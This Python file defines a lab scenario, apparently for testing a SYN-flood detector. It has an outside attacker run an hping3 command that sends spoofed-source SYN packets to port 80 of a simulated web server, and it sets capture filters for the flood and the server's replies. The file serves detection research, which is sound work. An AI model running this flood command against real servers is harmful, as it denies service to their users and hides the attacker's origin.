"""A slow SYN flood."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    web = net.web()
    net.everyday()
    with net.attack(
        "syn-flood",
        by=attacker,
        victims=[web],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and dst host {web.ip} and dst port 80",
        responses=f"tcp and src host {web.ip} and tcp[tcpflags] & (tcp-syn|tcp-ack) == (tcp-syn|tcp-ack)",
    ):
        net.tool(attacker, *f"hping3 -q -S --rand-source -p 80 -i u70000 -c 560 {web.ip}".split(), seconds=45)
    net.quiet(2)


SCENARIO = Scenario(
    name="syn-flood-slow",
    about="hping3 sends 14 SYNs a second from random sources for 40 s, just enough to keep a backlog full.",
    detectors=("syn-flood",),
    tools={"hping3": "hping3"},
    run=run,
)
